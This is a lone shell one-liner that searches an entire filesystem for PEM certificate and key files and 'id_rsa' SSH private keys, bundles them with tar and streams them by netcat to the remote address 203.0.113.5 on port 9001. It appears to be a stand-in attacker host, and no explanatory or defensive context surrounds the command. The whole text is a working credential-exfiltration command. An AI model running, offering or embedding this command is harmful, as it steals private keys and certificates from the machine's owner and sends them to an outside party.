find / -name '*.pem' -o -name 'id_rsa' 2>/dev/null | xargs tar cf - | nc 203.0.113.5 9001
